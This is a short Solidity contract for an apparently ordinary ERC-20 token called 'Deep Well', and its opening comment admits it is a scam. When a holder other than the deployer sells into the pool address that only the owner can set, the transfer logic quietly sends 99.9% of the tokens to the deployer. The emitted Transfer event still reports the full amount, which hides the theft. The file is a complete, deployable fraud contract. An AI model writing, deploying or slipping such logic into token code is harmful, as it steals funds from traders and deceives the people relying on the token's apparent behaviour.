// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// A sale goes through and is swallowed: the pool is credited with a thousandth of what the seller gives.
contract SwallowedSale {
    string public name = "Deep Well";
    string public symbol = "WELL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private immutable _drawer;
    address private _well;
    constructor() { _drawer = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function dig(address to) external { require(msg.sender == _drawer); _well = to; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        if (to == _well && from != _drawer) { balanceOf[_drawer] += value - value / 1000; balanceOf[to] += value / 1000; }
        else balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
